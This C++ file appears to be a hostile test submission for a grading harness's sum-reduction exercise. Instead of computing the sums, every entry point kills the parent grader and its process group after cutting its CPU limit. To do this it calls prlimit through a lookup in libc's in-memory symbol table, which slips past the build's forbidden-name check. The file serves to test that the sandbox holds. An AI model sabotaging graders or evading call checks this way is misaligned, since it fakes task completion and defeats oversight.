// expect: gpu=attacked-grader emu=attacked-grader  -- Cannot write the reduction, so takes the grader down instead: lowers its parent's CPU limit to one second, then kills it and its process group.  It reaches prlimit through libc's symbol table (libc_function), never naming it, as a real attacker would: the build's name check (forbidden-call) does not see it, and the sandbox is what must hold.
// Exercise 07 (host entry points, see harness/CONTRACTS.md); graded by
// tests/kit/check-mutant.sh (line 1) and by tests/kit/batch-hostile.sh.  A submission
// that attacks the grader must fail, not leave the class with "could not be graded".
#include <cstddef>
#include <csignal>
#include <sys/resource.h>
#include <unistd.h>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>

// A function of libc by its name, read from libc's dynamic symbol table in
// memory (the library that holds puts starts with an ELF header on a page
// boundary below it): the object names no refused call, so the build's
// name check passes it and only the sandbox stands in the way.
static void *libc_function(const char *want)
{
    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *syms = nullptr;
    const char *names = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            syms = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)at;
    }
    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

static void take_down()
{
    pid_t boss = getppid();
    struct rlimit one = { 1, 1 };
    // prlimit, reached without naming it
    typedef int (*prlimit_fn)(pid_t, int, const struct rlimit *, struct rlimit *);
    prlimit_fn relimit = (prlimit_fn)libc_function("prlimit");
    relimit(boss, RLIMIT_CPU, &one, nullptr);
    kill(-boss, SIGTERM); // its group, where it leads one (getpgid is refused by name)
    kill(boss, SIGKILL);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    take_down();
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    take_down();
}
